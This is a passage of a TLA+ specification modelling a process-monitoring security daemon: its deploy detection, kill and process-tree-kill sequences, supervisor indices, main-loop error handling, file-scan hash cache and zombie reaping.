should_suspend_kill ==
    \E process \in DeployProcesses, cwd \in DeployDirs, arg \in {<<>>, AppScript},
       scan \in {<<>>, <<100>>} :
        LET dir == extract_working_directory(process, arg)
        IN  /\ deploy' = [deploy EXCEPT
                  !.cwd = cwd,
                  !.recent_deploys =
                      IF ~cached_deploy(dir)
                         /\ (check_git_activity(dir) \/ check_npm_activity(dir, arg))
                      THEN [@ EXCEPT ![dir] = deploy.now]
                      ELSE @]
            /\ BeginAbuse(process, 35, 900, detect_recent_deploy(dir, arg), TRUE, 0, scan)

\* The host: a deploy touches its files or starts an install, or the evidence
\* goes away; a minute passes.  Both between two detections.
DeployActivity ==
    /\ pc = "idle"
    /\ \E evidence \in {NoEvidence} \cup
                     [kind : {"git", "lock", "cache_dir", "install"}, dir : DeployDirs,
                      at : {deploy.now}] :
           deploy' = [deploy EXCEPT !.evidence = evidence, !.cwd = <<>>]
    /\ UNCHANGED <<hostVars, pipeVars>>

MinutePasses ==
    /\ pc = "idle"
    /\ deploy.now < MaxNow
    /\ deploy' = [deploy EXCEPT !.now = @ + 1, !.cwd = <<>>]
    /\ UNCHANGED <<hostVars, pipeVars>>

\* DeployDetector on its own, with a grace period long enough for a deploy to be
\* seen late in it: detect_recent_deploy is asked about a directory, the
\* artifacts of one directory are touched, minutes pass and the daemon's
\* periodic cleanup_old_records runs.
long_grace_minutes == 3

DeployRest ==
    UNCHANGED <<cpuVars, hostVars, pipeVars, manifestVars, scanVars, scanner, reaper,
                decision, killer, tick, environment, index>>

\* detect_recent_deploy (60-92) with its insertion of Utc::now() on a hit of
\* the git or the lock-file check; no install or build command is running.
DetectRecentDeploy ==
    /\ \E path \in DeployDirs :
           deploy' = [deploy EXCEPT
               !.path = path,
               !.suspended = detect_recent_deploy(path, <<>>),
               !.recent_deploys =
                   IF ~cached_deploy(path)
                      /\ (check_git_activity(path) \/ check_npm_activity(path, <<>>))
                   THEN [@ EXCEPT ![path] = deploy.now]
                   ELSE @]
    /\ DeployRest

\* cleanup_old_records (211-217).
cleanup_old_records ==
    /\ deploy' = [deploy EXCEPT
           !.path = <<>>,
           !.recent_deploys =
               [d \in DeployDirs |->
                   IF @[d] # -1 /\ deploy.now - @[d] < deploy.grace_period_minutes * 2
                   THEN @[d] ELSE -1]]
    /\ DeployRest

\* A deploy writes .git/HEAD or a lock file of the application directory.
ArtifactTouched ==
    /\ \E kind \in {"git", "lock"} :
           deploy' = [deploy EXCEPT
               !.path = <<>>,
               !.evidence = [kind |-> kind, dir |-> AppDir, at |-> deploy.now]]
    /\ DeployRest

CacheMinutePasses ==
    /\ deploy.now < MaxCacheNow
    /\ deploy' = [deploy EXCEPT !.now = @ + 1, !.path = <<>>]
    /\ DeployRest

\* ------------------------------------------------------------ kill sequences
\* The process tables a kill sequence starts from: every process runs from
\* /tmp, each is a child of an earlier one or of none.
KillTables ==
    {[p \in Pids |-> [Bystander EXCEPT !.binary_path = ExeTmp, !.ppid = ppid[p]]] :
        ppid \in {f \in [Pids -> 0..MaxPid] : \A p \in Pids : f[p] < p}}

\* get_full_process_tree (process_monitor.rs 176-180).
get_full_process_tree(procs, pid) == {pid} \cup get_child_processes(procs, pid, {})

\* A kill that writes the KillAction row before it knows whether the SIGTERM
\* went out.
SendSigtermRowFirst ==
    /\ killer.pc = "idle"
    /\ config.auto_kill
    /\ \E engine \in {"kill_direct", "kill_process"}, pid \in Pids :
           /\ kill_actions' = Append(kill_actions, [pid |-> pid, confidence |-> 100])
           /\ IF processes[pid].alive
              THEN /\ signals' = Append(signals, Signal(processes, pid, "SIGTERM"))
                   /\ killer' = [killer EXCEPT !.engine = engine, !.pid = pid, !.pc = "wait",
                                               !.recorded = "none"]
              ELSE /\ killer' = [killer EXCEPT !.engine = engine, !.pid = pid, !.pc = "done",
                                               !.recorded = "none"]
                   /\ UNCHANGED signals
    /\ UNCHANGED <<supervisor_stops, config, pc, cur, suspicious_processes, last_action,
                   adjusted_confidence, handled, processes>>

\* SafeKillEngine.kill_direct lines 217-221 and 231-234, KillEngine.kill_process
\* lines 48-51 and 66-69: SIGTERM to the pid and nothing else; a pid that is
\* gone fails the call.
SendSigterm ==
    /\ killer.pc = "idle"
    /\ config.auto_kill
    /\ \E engine \in {"kill_direct", "kill_process"}, pid \in Pids :
           IF processes[pid].alive
           THEN /\ signals' = Append(signals, Signal(processes, pid, "SIGTERM"))
                /\ killer' = [killer EXCEPT !.engine = engine, !.pid = pid, !.pc = "wait",
                                            !.recorded = "none"]
           ELSE /\ killer' = [killer EXCEPT !.engine = engine, !.pid = pid, !.pc = "done",
                                            !.recorded = "none"]
                /\ UNCHANGED signals
    /\ UNCHANGED <<supervisor_stops, pipeVars, processes>>

\* After the 2 s sleep.  kill_direct (lines 223-230) sends SIGKILL whatever
\* happened; kill_process (lines 54-65) asks its own monitor, which was last
\* refreshed before the SIGTERM, whether the pid is there.  Then the KillAction
\* row, and in kill_process (lines 86-89) the refresh of the monitor.
SendSigkill ==
    /\ killer.pc = "wait"
    /\ IF killer.engine = "kill_direct" \/ killer.pid \in killer.monitor
       THEN /\ signals' = Append(signals, Signal(processes, killer.pid, "SIGKILL"))
            /\ processes' = [processes EXCEPT ![killer.pid].alive = FALSE]
       ELSE UNCHANGED <<signals, processes>>
    /\ \E db_ok \in BOOLEAN :
           /\ kill_actions' = IF db_ok
                              THEN Append(kill_actions, [pid |-> killer.pid, confidence |-> 100])
                              ELSE kill_actions
           /\ killer' = [killer EXCEPT
                  !.pc = "done",
                  !.recorded = IF db_ok THEN "Ok" ELSE "Err",
                  !.monitor = IF killer.engine = "kill_process" /\ db_ok
                              THEN {p \in Pids : processes[p].alive}
                              ELSE @]
    /\ UNCHANGED <<supervisor_stops, config, pc, cur, suspicious_processes, last_action,
                   adjusted_confidence, handled>>

\* The call returns; the loop may come to another process.
KillReturns ==
    /\ killer.pc = "done"
    /\ Len(signals) < 2 * MaxActions
    /\ killer' = [killer EXCEPT !.pc = "idle"]
    /\ UNCHANGED <<hostVars, pipeVars, processes>>

\* A process exits, on the SIGTERM it got or by itself.
ProcessExits ==
    /\ \E p \in Pids :
           /\ processes[p].alive
           /\ processes' = [processes EXCEPT ![p].alive = FALSE]
    /\ UNCHANGED <<hostVars, pipeVars, killer>>

\* ------------------------------------------------------------ tree kills
\* KillEngine.kill_process_tree and the per-pid body of
\* FileQuarantine.kill_processes_using_file, signal by signal, on process
\* trees of any shape.  The root is pid 1.
TreePids == 1..MaxTreePid

TreeRoot == 1

\* The process tables: a process's parent has a smaller pid or is init (0);
\* a pid not in use has no parent.
TreeTables ==
    {t \in [TreePids -> [ppid : 0..MaxTreePid, alive : BOOLEAN]] :
        /\ t[TreeRoot] = [ppid |-> 0, alive |-> TRUE]
        /\ \A p \in TreePids :
               /\ t[p].ppid < p
               /\ ~t[p].alive => t[p].ppid = 0
               /\ (t[p].alive /\ t[p].ppid # 0) => t[t[p].ppid].alive}

\* Vec::reverse
RECURSIVE reverse(_)
reverse(seq) == IF seq = <<>> THEN <<>> ELSE reverse(Tail(seq)) \o <<Head(seq)>>

\* get_child_processes (process_monitor.rs 148-173) as it is written: a
\* stack of pids to check; the processes whose parent is the popped pid are
\* appended to the result and pushed, in the order the process map yields
\* them (scan: the pids in that order).
RECURSIVE child_walk(_, _, _, _, _, _)
child_walk(table, scan, parent_pid, children, to_check, checked) ==
    IF to_check = <<>> THEN children
    ELSE LET pid == to_check[Len(to_check)]
             rest == SubSeq(to_check, 1, Len(to_check) - 1)
             found == SelectSeq(scan, LAMBDA q : /\ table[q].alive
                                                 /\ table[q].ppid = pid
                                                 /\ q # parent_pid)
         IN  IF pid \in checked
             THEN child_walk(table, scan, parent_pid, children, rest, checked)
             ELSE child_walk(table, scan, parent_pid, children \o found, rest \o found,
                             checked \cup {pid})

\* get_full_process_tree (process_monitor.rs 176-180), in order.
full_process_tree(table, scan, pid) ==
    <<pid>> \o child_walk(table, scan, pid, <<>>, <<pid>>, {})

\* The children in the order the SIGTERMs go out, as though the list were
\* not reversed.
children_in_list_order(tree, root_pid) == SelectSeq(tree, LAMBDA q : q # root_pid)

\* kill_engine.rs 131-137, file_quarantine.rs 150-156: the reversed list
\* without the root.
children_first(tree, root_pid) == SelectSeq(reverse(tree), LAMBDA q : q # root_pid)

Sent(pids, sig) == [i \in 1..Len(pids) |-> [pid |-> pids[i], sig |-> sig]]

TreeRest == UNCHANGED <<cpuVars, supervisor_stops, pipeVars, manifestVars, file_scanning,
                        parent_dir, quarantine_dir, cron_file, cron_dir, malware_files,
                        scan_local, scan_pc, scanner, reaper, decision, deploy, tick,
                        environment, index>>

\* kill_engine.rs 121-144, file_quarantine.rs 146-163: the tree is listed and
\* every child gets SIGTERM.
TreeSigtermChildren ==
    /\ killer.pc = "idle"
    /\ LET tree == full_process_tree(processes, killer.scan, TreeRoot)
       IN  /\ signals' = signals \o Sent(children_first(tree, TreeRoot), "SIGTERM")
           /\ killer' = [killer EXCEPT !.pc = "sleep", !.tree = tree, !.table = processes]
    /\ UNCHANGED processes
    /\ TreeRest

\* During the two seconds a member of the tree forks.
TreeFork ==
    /\ killer.pc = "sleep"
    /\ killer.forks < MaxForks
    /\ \E parent \in TreePids, child \in TreePids :
           /\ processes[parent].alive
           /\ parent \in {killer.tree[i] : i \in DOMAIN killer.tree}
           /\ ~processes[child].alive
           /\ ~killer.table[child].alive
           /\ processes' = [processes EXCEPT ![child] = [ppid |-> parent, alive |-> TRUE]]
           /\ killer' = [killer EXCEPT !.forks = @ + 1]
    /\ UNCHANGED signals
    /\ TreeRest

\* The two seconds are over: some of the children have exited on their
\* SIGTERM, their own children are now init's.
TreeChildrenExit ==
    /\ killer.pc = "sleep"
    /\ \E exited \in SUBSET {q \in TreePids : \E i \in DOMAIN signals : signals[i].pid = q} :
           processes' = [p \in TreePids |->
                            IF p \in exited THEN [ppid |-> processes[p].ppid, alive |-> FALSE]
                            ELSE IF processes[p].ppid \in exited
                            THEN [processes[p] EXCEPT !.ppid = 0]
                            ELSE processes[p]]
    /\ killer' = [killer EXCEPT !.pc = "kill"]
    /\ UNCHANGED signals
    /\ TreeRest

\* kill_engine.rs 149-159: SIGKILL to the children of the first list that
\* the engine's monitor, not refreshed since, still holds.
\* file_quarantine.rs 168-178: the monitor is refreshed and the tree is
\* listed again.
TreeSigkillChildren ==
    /\ killer.pc = "kill"
    /\ LET remaining ==
               IF killer.engine = "kill_process_tree"
               THEN SelectSeq(killer.tree, LAMBDA q : q # TreeRoot /\ killer.table[q].alive)
               ELSE SelectSeq(full_process_tree(processes, killer.scan, TreeRoot),
                              LAMBDA q : q # TreeRoot /\ processes[q].alive)
       IN  /\ signals' = signals \o Sent(remaining, "SIGKILL")
           /\ processes' = [p \in TreePids |->
                               IF \E i \in DOMAIN remaining : remaining[i] = p
                               THEN [processes[p] EXCEPT !.alive = FALSE]
                               ELSE processes[p]]
    /\ killer' = [killer EXCEPT !.pc = "root"]
    /\ TreeRest

\* kill_engine.rs 162-166, file_quarantine.rs 181-185.
TreeSigtermRoot ==
    /\ killer.pc = "root"
    /\ signals' = signals \o Sent(<<TreeRoot>>, "SIGTERM")
    /\ killer' = [killer EXCEPT !.pc = "root_sleep"]
    /\ UNCHANGED processes
    /\ TreeRest

\* kill_engine.rs 167-174, file_quarantine.rs 187-193: SIGKILL to the root
\* when the monitor still holds it (kill_process_tree: always; after a
\* refresh: when it has not exited).
TreeSigkillRoot ==
    /\ killer.pc = "root_sleep"
    /\ \E exited \in BOOLEAN :
           LET present == IF killer.engine = "kill_process_tree" THEN killer.table[TreeRoot].alive
                          ELSE ~exited
           IN  /\ signals' = IF present THEN signals \o Sent(<<TreeRoot>>, "SIGKILL")
                             ELSE signals
               /\ processes' = [processes EXCEPT ![TreeRoot].alive = FALSE]
    /\ killer' = [killer EXCEPT !.pc = "done"]
    /\ TreeRest

\* ------------------------------------------------------------ supervisor indices
\* Pm2Integration, SystemdIntegration, NginxIntegration: the pid -> entry map
\* of each, its last_refresh and the queries by pid.  The clock counts half
\* minutes.
IndexKinds == {"pm2", "systemd", "nginx"}

\* Duration::from_secs(30) for PM2, from_secs(60) for systemd and nginx.
refresh_interval(kind) == IF kind = "pm2" THEN 1 ELSE 2

\* detect_apps (pm2_integration.rs 50-96), detect_units
\* (systemd_integration.rs 36-97), detect_upstreams (nginx_integration.rs
\* 37-84).  The first two swallow the failures of their tools; the third
\* returns the error of map_ports_to_pids before it stores anything.
detect(self, tools_ok) ==
    IF self.now - self.last_refresh < refresh_interval(self.kind)
    THEN self
    ELSE IF self.kind = "nginx" /\ ~tools_ok
    THEN self
    ELSE [self EXCEPT !.entries = self.listed, !.last_refresh = self.now]

IndexRest == UNCHANGED <<cpuVars, hostVars, pipeVars, manifestVars, scanVars, scanner, reaper,
                         decision, deploy, killer, tick, environment>>

\* is_pm2_managed / is_systemd_managed / is_nginx_upstream(pid): the refresh
\* when it is due, then the answer from the map.
IndexQuery ==
    /\ index.queries < MaxQueries
    /\ \E pid \in Pids, tools_ok \in BOOLEAN :
           LET refreshed == IF index.now - index.last_refresh >= refresh_interval(index.kind)
                            THEN detect(index, tools_ok)
                            ELSE index
           IN  index' = [refreshed EXCEPT !.queries = @ + 1,
                                          !.pid = pid,
                                          !.answer = pid \in refreshed.entries]
    /\ IndexRest

\* Half a minute passes.
IndexClock ==
    /\ index.now < MaxIndexClock
    /\ index' = [index EXCEPT !.now = @ + 1]
    /\ IndexRest

\* An app, unit or upstream starts or stops on the host.
IndexHostChanges ==
    /\ \E listed \in SUBSET Pids :
           /\ listed # index.listed
           /\ index' = [index EXCEPT !.listed = listed]
    /\ IndexRest

\* ------------------------------------------------------------ the main loop
\* An error that would leave run: `?` or return on the failed call.
propagate_error(next) == "returned"

\* What the loop does with a failed call: `if let Err(e) = ... { warn!(..) }`,
\* `let _ = ...`, or a match arm that logs; it goes on where it would have.
on_error(next) == next

LoopRest == UNCHANGED <<cpuVars, hostVars, pipeVars, manifestVars, scanVars, scanner, reaper,
                        decision, deploy, killer, environment, index>>

\* Lines 225-260: refresh, the process list (on its failure: sleep and start
\* again), a record_process write per busy process, analyze.
BeginTick ==
    /\ tick.pc = "sleep"
    /\ tick.ticks < MaxTicks
    /\ \E list_ok \in BOOLEAN, fails \in SUBSET {"db_write"},
          abuses \in UNION {Orders(S) : S \in SUBSET Pids} :
           IF ~list_ok
           THEN tick' = [tick EXCEPT !.ticks = @ + 1, !.cpu_abuses = <<>>, !.detected = {},
                                     !.visited = {}, !.failed = {"process_list"}]
           ELSE tick' = [tick EXCEPT
                            !.pc = IF fails = {} THEN "abuses" ELSE on_error("abuses"),
                            !.cpu_abuses = abuses,
                            !.detected = {abuses[i] : i \in DOMAIN abuses},
                            !.visited = {},
                            !.failed = fails]
    /\ LoopRest

\* Lines 261-444, one detection: the system and deploy skips, the
\* record_suspicious_process and record_npm_infection writes, up to three
\* execute_action calls (a stop, a kill, the KillAction write), the alert.
HandleAbuse ==
    /\ tick.pc = "abuses"
    /\ tick.cpu_abuses # <<>>
    /\ \E fails \in SUBSET {"db_write", "kill", "notifier"} :
           tick' = [tick EXCEPT
                       !.pc = IF fails = {} THEN "abuses" ELSE on_error("abuses"),
                       !.cpu_abuses = Tail(@),
                       !.visited = @ \cup {Head(tick.cpu_abuses)},
                       !.failed = @ \cup fails]
    /\ LoopRest

\* Lines 446-492: the cron scan when it is due, a record_cron_snapshot write
\* and an alert per suspicious job.
CheckCron ==
    /\ tick.pc = "abuses"
    /\ tick.cpu_abuses = <<>>
    /\ \E fails \in SUBSET {"cron_scan", "db_write", "notifier"} :
           tick' = [tick EXCEPT !.pc = IF fails = {} THEN "files" ELSE on_error("files"),
                                !.failed = @ \cup fails]
    /\ LoopRest

\* Lines 494-671: the file scan when it is due; per detected file the kill of
\* its users, the cleanup, sign and save, handle_malware (on its failure: the
\* next file), the record_malware_file write, the alert.
ScanFiles ==
    /\ tick.pc = "files"
    /\ \E fails \in SUBSET {"file_scan", "kill", "db_write", "notifier"} :
           tick' = [tick EXCEPT !.pc = IF fails = {} THEN "upkeep" ELSE on_error("upkeep"),
                                !.failed = @ \cup fails]
    /\ LoopRest

\* Lines 673-702: the deploy records, archive and vacuum, the sleep.
EndTick ==
    /\ tick.pc = "upkeep"
    /\ \E fails \in SUBSET {"db_write"} :
           tick' = [tick EXCEPT !.pc = IF fails = {} THEN "sleep" ELSE on_error("sleep"),
                                !.failed = @ \cup fails,
                                !.ticks = @ + 1]
    /\ LoopRest

\* ------------------------------------------------------------ SystemEnvironment
\* Percentages are fractions num / den with den > 0: 25.0 / vcpu is not a
\* whole number of any fixed unit.
Frac(num, den) == [num |-> num, den |-> den]

Geq(a, b) == a.num * b.den >= b.num * a.den

\* Option<usize>: None is the empty sequence, Some(n) is <<n>>.
unwrap_or(option, default) == IF option = <<>> THEN default ELSE option[1]

\* f32::max
FMax(a, b) == IF Geq(a, b) THEN a ELSE b

compute_cpu_threshold(self, base_threshold, vcpu_override) ==
    LET vcpu == unwrap_or(vcpu_override, self.vcpu_count)
        per_core_threshold == 25
        system_threshold == FMax(Frac(per_core_threshold, vcpu), Frac(5, 1))
    IN  IF vcpu = 0
        THEN Frac(base_threshold, 1)
        ELSE FMax(Frac(base_threshold, 1), system_threshold)

\* CpuAnalyzer is built with the tuned threshold (daemon.rs:99-105).
ComputeThreshold ==
    /\ environment.pc = "idle"
    /\ environment' = [vcpu_count |-> environment.vcpu_count,
                       base_threshold |-> environment.base_threshold,
                       vcpu_override |-> environment.vcpu_override,
                       pc |-> "done",
                       threshold |-> compute_cpu_threshold(environment,
                                         environment.base_threshold,
                                         environment.vcpu_override)]
    /\ UNCHANGED <<cpuVars, hostVars, pipeVars, manifestVars, scanVars, scanner, reaper,
                   decision, deploy, killer, tick, index>>

\* ------------------------------------------------------------ periodic jobs
\* The counters of run (daemon.rs 214-223, 446-449, 494-498, 673-691).  The
\* intervals are those of the code divided down: what matters is that they
\* differ and that each counter is compared with its own.
cron_check_interval == 2
deploy_cleanup_interval == 3
db_maintenance_interval == 4

\* Line 217-223: the file scan's interval in iterations; never when disabled.
Never == -1

\* The jobs one iteration runs, from the counters after their increment.
JobsDue(self) ==
    (IF self.cron_check_counter + 1 >= cron_check_interval THEN {"cron_scan"} ELSE {})
    \cup (IF /\ self.file_scan_interval # Never
             /\ self.file_scan_counter + 1 >= self.file_scan_interval
          THEN {"file_scan"} ELSE {})
    \cup (IF self.deploy_cleanup_counter + 1 >= deploy_cleanup_interval
          THEN {"deploy_cleanup"} ELSE {})
    \cup (IF self.db_maintenance_counter + 1 >= db_maintenance_interval
          THEN {"db_maintenance"} ELSE {})

\* `counter += 1; if counter >= interval { counter = 0; ... }`
Counted(counter, job, due) == IF job \in due THEN 0 ELSE counter + 1

\* One iteration whose process list was read: every counter moves, the jobs
\* that are due run.  ZombieReaper is constructed (line 192) and not called.
Iterate ==
    /\ LET due == JobsDue(tick)
       IN  tick' = [tick EXCEPT
                       !.cron_check_counter = Counted(@, "cron_scan", due),
                       !.file_scan_counter =
                           IF tick.file_scan_interval = Never THEN @
                           ELSE Counted(@, "file_scan", due),
                       !.deploy_cleanup_counter = Counted(@, "deploy_cleanup", due),
                       !.db_maintenance_counter = Counted(@, "db_maintenance", due),
                       !.ran = due,
                       !.listed = TRUE]
    /\ LoopRest

\* Lines 230-237: the process list failed; sleep and `continue`, which
\* passes over every counter.
IterateWithoutList ==
    /\ tick' = [tick EXCEPT !.ran = {}, !.listed = FALSE]
    /\ LoopRest

\* ------------------------------------------------------------ scan_directory
\* slice::chunks: consecutive pieces of chunk_size elements, the last one
\* shorter when the length is no multiple of it.
RECURSIVE chunks(_, _)
chunks(seq, chunk_size) ==
    IF seq = <<>> THEN <<>>
    ELSE IF Len(seq) <= chunk_size THEN <<seq>>
    ELSE <<SubSeq(seq, 1, chunk_size)>> \o chunks(SubSeq(seq, chunk_size + 1, Len(seq)), chunk_size)

\* Line 267: (files_to_scan.len() / max_scan_threads).max(1)
chunk_size_of(len, max_scan_threads) == Max(len \div max_scan_threads, 1)

\* Lines 263-295: one spawned task per chunk when parallel_scan is set and
\* there are more than ten files, else the files one after the other in the
\* caller.  The files are numbered as the walk yields them.
scan_directory ==
    /\ scanner.pc = "idle"
    /\ LET files_to_scan == [i \in 1..scanner.files |-> i]
       IN  scanner' = [scanner EXCEPT
               !.pc = "done",
               !.workers =
                   IF scanner.parallel_scan /\ Len(files_to_scan) > 10
                   THEN chunks(files_to_scan,
                               chunk_size_of(Len(files_to_scan), scanner.max_scan_threads))
                   ELSE <<files_to_scan>>]
    /\ UNCHANGED <<cpuVars, hostVars, pipeVars, manifestVars, scanVars, reaper, decision,
                   deploy, killer, tick, environment, index>>

\* ------------------------------------------------------------ FileScanner hash cache
\* One path under scan.  The file is its content and its modification time;
\* times are counted in half seconds, so that two writes can fall into one
\* second.  The cache row of the path is NoRow or (hash, mtime); the table
\* file_hash_cache and its two queries are not in database.rs: a lookup
\* answers when the stored mtime is the one asked for, an update replaces
\* the row.
Sha256(content) == <<"sha256", content>>

\* metadata.modified() ... .as_secs() (lines 154-157, 335-338)
as_secs(mtime) == mtime \div 2

get_file_cache(row, mtime) == IF row.found /\ row.mtime = mtime THEN row ELSE NoRow

update_file_cache(hash, mtime) == [found |-> TRUE, hash |-> hash, mtime |-> mtime]

\* What these parts hold while another part of the agent runs; `busy` names
\* the part whose state the specification sets itself.
LoopAtRest(busy) ==
    /\ IF busy = "scanner" THEN TRUE
       ELSE scanner = [file |-> [content |-> "v1", mtime |-> 0], cache |-> NoRow,
                       pc |-> "idle", mtime |-> 0, file_hash |-> Sha256("v1")]
    /\ IF busy = "reaper" THEN TRUE
       ELSE reaper = [status |-> [p \in Pids |-> "none"], threshold |-> 1, pc |-> "idle",
                      zombies |-> <<>>, total_count |-> 0, reaped |-> 0, results |-> <<>>]
    /\ IF busy = "decision" THEN TRUE ELSE decision = [action |-> "none"]
    /\ IF busy = "deploy" THEN TRUE
       ELSE deploy = [now |-> 0, evidence |-> NoEvidence, cwd |-> <<>>,
                      grace_period_minutes |-> grace_period_minutes,
                      recent_deploys |-> [d \in DeployDirs |-> -1]]
    /\ IF busy = "killer" THEN TRUE
       ELSE killer = [engine |-> "none", pc |-> "idle", pid |-> 0, monitor |-> {},
                      recorded |-> "none"]
    /\ IF busy = "tick" THEN TRUE
       ELSE tick = [pc |-> "sleep", cpu_abuses |-> <<>>, detected |-> {}, visited |-> {},
                    failed |-> {}, ticks |-> 0]
    /\ IF busy = "environment" THEN TRUE
       ELSE environment = [vcpu_count |-> 1, pc |-> "idle"]
    /\ IF busy = "index" THEN TRUE
       ELSE index = [pc |-> "idle"]

\* scan_file (lines 139-181) and scan_file_internal (lines 323-357) up to the
\* hash: the stat, the lookup, and on a miss the read of the file and the
\* update of the cache.  A failed query counts as a miss, a failed update is
\* only logged.
scan_file ==
    \/ /\ scanner.pc \in {"idle", "reused", "hashed"}
       /\ scanner' = [scanner EXCEPT !.pc = "lookup", !.mtime = as_secs(scanner.file.mtime)]
    \/ /\ scanner.pc = "lookup"
       /\ \E db_ok \in BOOLEAN :
              LET cached == get_file_cache(scanner.cache, scanner.mtime)
              IN  scanner' = IF db_ok /\ cached.found
                             THEN [scanner EXCEPT !.pc = "reused", !.file_hash = cached.hash]
                             ELSE [scanner EXCEPT !.pc = "hash"]
    \/ /\ scanner.pc = "hash"
       /\ scanner' = [scanner EXCEPT !.pc = "update",
                                     !.file_hash = Sha256(scanner.file.content)]
    \/ /\ scanner.pc = "update"
       /\ \E db_ok \in BOOLEAN :
              scanner' = [scanner EXCEPT
                             !.pc = "hashed",
                             !.cache = IF db_ok
                                       THEN update_file_cache(scanner.file_hash, scanner.mtime)
                                       ELSE @]

\* Another process writes the file, in the half second of the last write or
\* in the next one.
WriteFile ==
    \E content \in {"v1", "v2"}, later \in 0..1 :
        /\ scanner.file.mtime + later <= MaxMtime
        /\ scanner' = [scanner EXCEPT !.file = [content |-> content, mtime |-> @.mtime + later]]

\* ------------------------------------------------------------ ZombieReaper
\* What a pid is to the agent: a child of it that has exited and waits to be
\* reaped, a running child, the zombie of another parent, or no process.

\* waitpid(pid, flags) by what the pid is.  Without WNOHANG the call on a
\* running child does not return before the child changes state.
waitpid_without_nohang(status, nohang) ==
    IF status = "zombie_child" THEN "Exited"
    ELSE IF status = "alive_child" THEN "Blocks"
    ELSE "ECHILD"

waitpid(status, nohang) ==
    IF status = "zombie_child" THEN "Exited"
    ELSE IF status = "alive_child" THEN (IF nohang THEN "StillAlive" ELSE "Blocks")
    ELSE "ECHILD"

\* reap_zombies (lines 88-122): one iteration of the loop, which goes on
\* once its waitpid has returned.
reap_zombies ==
    /\ reaper.pc = "reap"
    /\ reaper.zombies # <<>>
    /\ LET pid == Head(reaper.zombies)
           result == waitpid(reaper.status[pid], TRUE)
       IN  /\ result # "Blocks"
           /\ reaper' = [reaper EXCEPT
                            !.status[pid] = IF result = "Exited" THEN "none" ELSE @,
                            !.zombies = Tail(@),
                            !.reaped = IF result = "Exited" THEN @ + 1 ELSE @,
                            !.results = Append(@, result),
                            !.pc = IF Len(reaper.zombies) = 1 THEN "done" ELSE "reap"]
    /\ UNCHANGED <<cpuVars, hostVars, pipeVars, manifestVars, scanVars, scanner, decision,
                   deploy, killer, tick, environment, index>>

\* check_and_reap (lines 126-166) up to the call of reap_zombies: the
\* interval, detect_zombies, the threshold.
check_and_reap ==
    /\ reaper.pc = "idle"
    /\ \E due \in BOOLEAN :
           LET zombies == SeqOf({p \in Pids : reaper.status[p] \in {"zombie_child",
                                                                     "zombie_other"}})
           IN  reaper' = IF ~due \/ zombies = <<>>
                         THEN [reaper EXCEPT !.pc = "done"]
                         ELSE [reaper EXCEPT
                                  !.total_count = Len(zombies),
                                  !.zombies = IF Len(zombies) >= reaper.threshold
                                              THEN zombies ELSE <<>>,
                                  !.pc = IF Len(zombies) >= reaper.threshold
                                         THEN "reap" ELSE "done"]
    /\ UNCHANGED <<cpuVars, hostVars, pipeVars, manifestVars, scanVars, scanner, decision,
                   deploy, killer, tick, environment, index>>

\* The host between two steps of the agent: a child exits, a parent reaps
\* its zombie, a new child of the agent gets a free pid.  (The actions of
\* this part leave the rest of the state alone themselves.)
HostProcesses ==
    /\ \E p \in Pids :
           \/ /\ reaper.status[p] = "alive_child"
              /\ reaper' = [reaper EXCEPT !.status[p] = "zombie_child"]
           \/ /\ reaper.status[p] = "zombie_other"
              /\ reaper' = [reaper EXCEPT !.status[p] = "none"]
           \/ /\ reaper.status[p] = "none"
              /\ reaper.pc = "reap"
              /\ reaper' = [reaper EXCEPT !.status[p] = "alive_child"]
    /\ UNCHANGED <<cpuVars, hostVars, pipeVars, manifestVars, scanVars, scanner, decision,
                   deploy, killer, tick, environment, index>>

\* ------------------------------------------------------------ specifications

InitCpu ==
    /\ InitCpuVars
    /\ InitHostVars
    /\ InitPipeVars
    /\ InitManifestVars
    /\ ScanAtRest
    /\ LoopAtRest("")
    /\ manifest = new(<<"t1">>)
    /\ suspicious_processes = <<>>
    /\ config = [dry_run |-> FALSE, audit_only |-> FALSE, auto_kill |-> TRUE]

NextCpu == Tick /\ UNCHANGED <<hostVars, pipeVars, manifestVars, scanVars, loopVars>>

SpecCpu == InitCpu /\ [][NextCpu]_vars

InitPipeline ==
    /\ InitCpuVars
    /\ InitHostVars
    /\ InitPipeVars
    /\ InitManifestVars
    /\ ScanAtRest
    /\ LoopAtRest("")
    /\ manifest = new(<<"t1">>)
    /\ config \in [dry_run : BOOLEAN, audit_only : BOOLEAN, auto_kill : BOOLEAN]
    /\ suspicious_processes \in StoredTables

NextPipeline ==
    \/ TakeAbuse /\ UNCHANGED <<cpuVars, manifestVars, scanVars, loopVars>>
    \/ NpmInfection /\ UNCHANGED <<cpuVars, manifestVars, scanVars, loopVars>>
    \/ ReactCheck /\ UNCHANGED <<cpuVars, manifestVars, scanVars, loopVars>>
    \/ FinalKill /\ UNCHANGED <<cpuVars, manifestVars, scanVars, loopVars>>
    \/ EndAbuse /\ UNCHANGED <<cpuVars, manifestVars, scanVars, loopVars>>

SpecPipeline == InitPipeline /\ [][NextPipeline]_vars

\* Detections recorded one after the other in a table that starts empty.
InitRecords ==
    /\ InitCpuVars
    /\ InitHostVars
    /\ InitPipeVars
    /\ InitManifestVars
    /\ ScanAtRest
    /\ LoopAtRest("")
    /\ manifest = new(<<"t1">>)
    /\ config = [dry_run |-> FALSE, audit_only |-> FALSE, auto_kill |-> TRUE]
    /\ suspicious_processes = <<>>

SpecRecords == InitRecords /\ [][RecordDetection]_vars

\* One process that no skip applies to, detected at every tick, over a table
\* that earlier detections can have left.
InitStay ==
    /\ InitCpuVars
    /\ InitHostVars
    /\ ScanAtRest
    /\ InitManifestVars
    /\ LoopAtRest("")
    /\ manifest = new(<<"t1">>)
    /\ config = [dry_run |-> FALSE, audit_only |-> FALSE, auto_kill |-> TRUE]
    /\ pc = "idle"
    /\ kill_actions = <<>>
    /\ last_action = NoCall
    /\ adjusted_confidence = 0
    /\ handled = 0
    /\ suspicious_processes \in StoredTables
    /\ cur \in [taken : {FALSE},
                 process : {q \in ProcessInfos : ~is_system_process(q.binary_path)},
                 cpu_percent : {20, 35}, duration : {300, 900}, confidence : {0}]

SpecStay == InitStay /\ [][StayDetected]_vars /\ WF_vars(StayDetected)

\* analyze_process on processes without a record, at and around the limits
\* of the CPU share and of the duration.
InitAnalyze ==
    /\ InitCpuVars
    /\ InitHostVars
    /\ ScanAtRest
    /\ InitManifestVars
    /\ LoopAtRest("")
    /\ manifest = new(<<"t1">>)
    /\ config = [dry_run |-> FALSE, audit_only |-> FALSE, auto_kill |-> TRUE]
    /\ suspicious_processes = <<>>
    /\ pc = "idle"
